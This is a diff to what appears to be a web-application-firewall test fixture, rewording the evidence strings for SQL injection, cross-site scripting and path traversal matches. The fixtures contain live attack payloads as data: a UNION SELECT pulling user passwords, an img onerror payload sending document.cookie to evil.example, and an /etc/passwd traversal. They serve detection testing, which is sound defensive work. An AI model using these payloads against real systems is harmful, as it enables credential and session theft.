@@ -75,7 +75,8 @@ const SQL_MATCH = makeMatch({
   target: 'ARGS:q',
   snippet: "' UNION SELECT name, password FROM users--\u0000\u00a0",
   operator: '@detectSQLi',
-  evidence: "a quote ends, a UNION follows: ' UNION SELECT name, password FROM users",
+  evidence:
+    "closes the quoted text and joins a second query with UNION: ' UNION SELECT name, password FROM users",
   message: 'SQL injection',
   logData: 'ARGS:q: sUEn,nkn',
   tags: ['attack-sqli', 'OWASP_TOP_10/A03', 'CAPEC-66', 'CWE-89'],
@@ -87,7 +88,8 @@ const XSS_MATCH = makeMatch({
   target: 'ARGS:comment',
   snippet: '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
   operator: '@detectXSS',
-  evidence: 'an event handler runs script: onerror="fetch(\'//evil.example/\'+document.cookie)"',
+  evidence:
+    'the element img onerror calls fetch: <img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
   message: 'Cross-site scripting',
   logData: 'ARGS:comment: img onerror',
   tags: ['attack-xss', 'OWASP_TOP_10/A03', 'CAPEC-63', 'CWE-79'],
@@ -99,7 +101,7 @@ const PATH_MATCH = makeMatch({
   target: 'ARGS:file',
   snippet: '../../../../etc/passwd',
   operator: '@detectPath',
-  evidence: 'it leads out of its folder: ../../../../etc/passwd',
+  evidence: 'it climbs 4 level(s) out of its folder: ../../../../etc/passwd',
   message: 'A file name that leads where no visitor is meant to go',
   logData: 'ARGS:file: ../../../../etc/passwd',
   tags: ['attack-lfi', 'OWASP_TOP_10/A01', 'CAPEC-126', 'CWE-22'],
